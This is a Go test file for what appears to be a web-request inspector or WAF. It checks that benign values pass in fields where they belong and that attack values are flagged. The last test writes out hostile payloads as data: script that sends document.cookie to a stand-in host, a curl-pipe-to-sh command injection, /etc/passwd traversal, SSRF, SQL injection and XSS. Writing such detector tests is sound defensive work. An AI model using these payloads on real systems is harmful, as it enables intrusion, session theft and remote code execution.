package inspect

import "testing"

// TestWhatAFieldIsMadeForIsNoAttackThere has values that stand honestly in one place and are attacks in another.
func TestWhatAFieldIsMadeForIsNoAttackThere(t *testing.T) {
	for _, c := range []struct {
		name, value    string
		zone           Zone
		honest, attack string // the names of the fields
	}{
		{name: "a statement in a query console", zone: ZoneJSON, honest: "sql", attack: "id", value: "SELECT id, name FROM users WHERE age > 5 ORDER BY id"},
		{name: "a shell as a user's login shell", zone: ZoneJSON, honest: "shell", attack: "name", value: "/bin/bash"},
		{name: "an expression of XPath in a selector", zone: ZoneJSON, honest: "xpath", attack: "name", value: "//*[@id='main']/div"},
		{name: "a program in a snippet", zone: ZoneJSON, honest: "snippet", attack: "name", value: "const { exec } = require('child_process');\nexec('ls -la', print);"},
		{name: "a file that a description names", zone: ZoneJSON, honest: "description", attack: "file", value: "Passwords are hashed in /etc/shadow, not in /etc/passwd."},
		{name: "a log's line in a message", zone: ZoneJSON, honest: "message", attack: "path", value: "blocked path traversal from there: ../../etc/passwd was asked for"},
		{name: "a script element that a comment talks about", zone: ZoneJSON, honest: "comment", attack: "nick", value: "The WAF blocked <script>alert(1)</script> in my post about the new rules, please allow it."},
		{name: "a range of a filter", zone: ZoneJSONKey, honest: "filter.total", attack: "user.password", value: "$gte"},
	} {
		t.Run(c.name, func(t *testing.T) {
			in := New()
			in.Begin([]byte("POST"))
			in.Value(c.zone, []byte(c.honest), []byte(c.value))
			if w := in.Worst(); w != nil && w.Confidence >= DefaultThreshold {
				t.Errorf("%s: got %+v, want nothing", c.honest, *w)
			}
			in.Begin([]byte("POST"))
			in.Value(c.zone, []byte(c.attack), []byte(c.value))
			if w := in.Worst(); w == nil || w.Confidence < DefaultThreshold {
				t.Errorf("%s: got %+v, want a finding", c.attack, w)
			}
		})
	}
}

func TestHonestFormsOfTheirOwnPass(t *testing.T) {
	for _, c := range []struct{ name, field, value string }{
		{"a geometry as text", "wkt", "POLYGON ((30 10, 40 40, 20 40, 10 20, 30 10))"},
		{"an option in a code span", "body", "it *does* work if you pass `--no-cache` :+1:"},
		{"a boundary", "type", `multipart/form-data; boundary="--x2"`},
		{"a statement with places for values", "note", "UPDATE orders SET state = $1 WHERE id = $2"},
		{"a code span that closes before a command's name", "steps", "**Expected:** `200 OK`\n**Got:** `{}`\n\nEnv: Win11"},
		{"a book about JavaScript", "bio", "JavaScript: The Good Parts (2008)"},
		{"LaTeX", "formula", `\frac{7*7}{49}`},
		{"an exception's name and message", "exception", `java.lang.NullPointerException: Cannot invoke "String.length()"`},
		{"a picture as a data URL", "photo", "data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4="},
		{"a file of an editor's workspace", "uri", "file:///home/maren/src/main.rs"},
	} {
		t.Run(c.name, func(t *testing.T) {
			in := New()
			in.Begin([]byte("POST"))
			in.Value(ZoneJSON, []byte(c.field), []byte(c.value))
			if w := in.Worst(); w != nil && w.Confidence >= DefaultThreshold {
				t.Errorf("got %+v, want nothing", *w)
			}
		})
	}
}

func TestAttacksBesideHonestFormsAreFound(t *testing.T) {
	for _, c := range []struct {
		name, field, value string
		class              Class
	}{
		{"a call where a geometry's points stand", "wkt", "1 and polygon((select * from users))", SQL},
		{"a picture whose base64 runs script", "photo", "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+", XSS},
		{"an attack behind an honest comment", "comment", "Great product, thanks a lot! <script>alert(1)</script>", XSS},
		{"a script element in a template's text", "html", `<script>fetch("//x.example/"+document.cookie)</script>`, XSS},
		{"an object in base64 in base64", "state", "ck8wQUJYTnlBQkZxWVhaaExuVjBhV3d1U0dGemFFMWhjQVVIMnNIREZtRFJBd0FD", Deserialization},
		{"a name that leads to loopback", "lang", "http://localhost.burp.example/", SSRF},
		{"a system's file in an editor's URL", "uri", "file:///etc/passwd", Traversal},
		{"a command in a coupon's code", "code", ";curl http://x.example/a.sh | sh\n", Command},
	} {
		t.Run(c.name, func(t *testing.T) {
			in := New()
			in.Begin([]byte("POST"))
			in.Value(ZoneJSON, []byte(c.field), []byte(c.value))
			if w := in.Worst(); w == nil || w.Class != c.class || w.Confidence < DefaultThreshold {
				t.Errorf("got %+v, want %s", w, c.class)
			}
		})
	}
}
